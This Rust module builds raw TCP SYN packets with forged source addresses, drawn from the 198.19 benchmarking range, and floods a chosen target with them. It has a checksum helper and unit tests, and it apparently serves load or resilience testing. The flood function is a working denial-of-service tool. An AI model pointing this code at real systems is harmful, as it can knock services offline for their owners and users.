//! A flood of SYNs from forged addresses.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::thread;
use std::time::Duration;

use anyhow::Result;
use nix::errno::Errno;
use socket2::{Domain, Protocol, Socket, Type};

/// `IPPROTO_RAW`: what is sent includes the IP header.
const RAW: i32 = 255;
const TCP: u8 = 6;
const HEADER: usize = 20;

/// Sends `count` SYNs, as fast as possible.
pub(crate) fn flood(to: SocketAddrV4, count: usize) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    let mut random = fastrand::Rng::with_seed(1);
    for _ in 0..count {
        // 198.18.0.0/15 is reserved for benchmarks, and no host has an address in this half.
        let from = SocketAddrV4::new(
            Ipv4Addr::new(198, 19, random.u8(..), random.u8(1..255)),
            random.u16(1024..),
        );
        match socket.send_to(&syn(from, to), &SocketAddrV4::new(*to.ip(), 0).into()) {
            Ok(_) => {}
            Err(error)
                if error.kind() == ErrorKind::WouldBlock
                    || error.raw_os_error() == Some(Errno::ENOBUFS as i32) =>
            {
                thread::sleep(Duration::from_millis(1));
            }
            Err(error) => return Err(error.into()),
        }
    }
    Ok(())
}

fn syn(from: SocketAddrV4, to: SocketAddrV4) -> [u8; 2 * HEADER] {
    let mut packet = [0; 2 * HEADER];
    let (ip, tcp) = packet.split_at_mut(HEADER);
    // Version 4 and a header of five words; the length; the TTL; the protocol.
    (ip[0], ip[3], ip[8], ip[9]) = (0x45, 2 * HEADER as u8, 64, TCP);
    ip[12..16].copy_from_slice(&from.ip().octets());
    ip[16..].copy_from_slice(&to.ip().octets());
    tcp[..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    // Sequence number 1; a header of five words; the flag SYN.
    (tcp[7], tcp[12], tcp[13]) = (1, 5 << 4, 2);
    tcp[14..16].copy_from_slice(&64_000_u16.to_be_bytes());
    let mut summed = Vec::from(&ip[12..]);
    summed.extend([0, TCP, 0, HEADER as u8]);
    summed.extend(&*tcp);
    tcp[16..18].copy_from_slice(&checksum(&summed).to_be_bytes());
    packet
}

/// As in RFC 1071; the length of `data` is even.
fn checksum(data: &[u8]) -> u16 {
    let words = data.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut total: u32 = words.sum();
    while total > 0xFFFF {
        total = (total & 0xFFFF) + (total >> 16);
    }
    !(total as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_checksum_is_that_of_rfc_1071() {
        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), !0xddf2);
    }

    #[test]
    fn a_syn_sums_up_to_zero_with_its_checksum() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 19, 3, 4), 4711);
        let to = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 2), 9900);
        let packet = syn(from, to);
        let mut summed = Vec::from(&packet[12..20]);
        summed.extend([0, TCP, 0, HEADER as u8]);
        summed.extend(&packet[20..]);
        assert_eq!(checksum(&summed), 0);
        assert_eq!(packet[33], 2, "SYN is the only flag");
    }
}
